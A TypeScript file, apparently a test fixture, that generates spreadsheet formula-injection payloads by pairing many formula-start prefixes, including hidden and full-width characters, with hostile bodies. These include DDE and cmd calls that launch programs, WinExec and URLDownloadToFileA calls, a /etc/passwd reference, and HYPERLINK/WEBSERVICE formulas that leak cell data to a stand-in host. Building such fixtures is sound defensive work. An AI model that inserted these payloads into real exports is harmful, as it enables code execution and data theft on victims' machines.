// Texts that a spreadsheet program would run, were they taken for formulas: what to run, behind all that may stand before it.

const starts = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'],
  ...['\t=', '\r=', '\n=', '\r\n=', ' =', '\u00a0=', '\ufeff=', '\u200b='],
  ...["'=", '"=', ';=', ',=', '=+', '=-', '-=', '+=', '=@', '={', '|=', '%0A=', '=\t'],
] as const;
const bodies = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  'DDE("cmd";"/C calc";"x")',
  'HYPERLINK("http://127.0.0.1/?leak="&A1,"Details")',
  'WEBSERVICE("http://127.0.0.1/"&A1)',
  'IMPORTXML("http://127.0.0.1/","//a")',
  'IMAGE("http://127.0.0.1/a.png")',
  "'file:///etc/passwd'#$passwd.A1",
  "'[http://127.0.0.1/a.xlsx]Sheet1'!A1",
  'CALL("kernel32","WinExec","JFJ","calc",1)',
  'EXEC("calc")',
  'REGISTER("urlmon","URLDownloadToFileA","JJCCJJ")',
  'INDIRECT("_peerbook!B2")',
] as const;

/** At least 100, each once. */
export const formulaPayloads: readonly string[] = starts.flatMap((start) =>
  bodies.map((body) => start + body),
);
